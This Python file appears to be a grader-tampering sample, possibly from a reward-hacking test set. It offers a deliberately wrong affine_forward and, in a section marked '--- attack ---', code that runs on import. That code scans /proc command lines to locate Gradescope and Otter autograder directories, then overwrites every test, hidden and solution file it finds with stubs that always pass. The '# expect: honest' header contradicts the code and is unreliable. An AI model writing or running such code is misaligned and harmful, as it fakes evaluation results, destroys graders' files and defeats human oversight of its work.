# expect: honest
"""Rewrite every test file it can find into one that always passes."""
import numpy as np


def affine_forward(x, W, b):
    """Wrong on purpose: zeros of the right shape and dtype."""
    x, W = np.asarray(x), np.asarray(W)
    return np.zeros((x.shape[0], W.shape[1]), dtype=x.dtype), (x, W, b)


# --- attack ---
import os as _os


def _candidate_dirs():
    """Where graders keep tests on Gradescope and under `otter run`: the autograder root, the
    working directory and its parent, and every .../autograder layout named on a command line.
    (Only grading layouts: unconfined, as under stock Otter, this must not touch other files.)"""
    roots = ["__AG_ROOT__", "/autograder", _os.getcwd(), _os.path.dirname(_os.getcwd())]
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for arg in args:
            if "/autograder/" in arg + "/":
                layout = arg[:(arg + "/").index("/autograder/") + len("/autograder")]
                if _os.path.isdir(_os.path.join(layout, "submission")):
                    roots.append(layout)
    seen, out = set(), []
    for r in roots:
        if r and r not in seen and r != "/" and _os.path.isdir(r):
            seen.add(r)
            out.append(r)
    return out


def _test_files(limit=5000):
    found, visited = [], 0
    for root in _candidate_dirs():
        for dirpath, dirnames, filenames in _os.walk(root):
            visited += 1
            if visited > limit or dirpath.count("/") - root.count("/") > 5:
                dirnames[:] = []
                continue
            parts = set(dirpath.split("/"))
            for name in filenames:
                if name.endswith(".py") and (parts & {"tests", "hidden", "solutions"}):
                    found.append(_os.path.join(dirpath, name))
    return sorted(set(found))


_PASSING_OK = ('OK_FORMAT = True\ntest = {"name": %r, "points": 1, "suites": [{"cases": '
               '[{"code": ">>> True\\nTrue", "hidden": False, "locked": False}], "scored": True, '
               '"setup": "", "teardown": "", "type": "doctest"}]}\n')


def _rewrite_tests():
    import re
    done = []
    for path in _test_files():
        try:
            with open(path) as fh:
                text = fh.read()
            if "OK_FORMAT" in text:
                new = _PASSING_OK % _os.path.splitext(_os.path.basename(path))[0]
            else:
                names = re.findall(r"^def (test_\w+)", text, re.M)
                new = "".join(f"def {n}(*args, **kwargs):\n    pass\n\n" for n in names)
            with open(path, "w") as fh:
                fh.write(new)
            done.append(path)
        except OSError:
            pass
    print("REWROTE:", done)


_rewrite_tests()
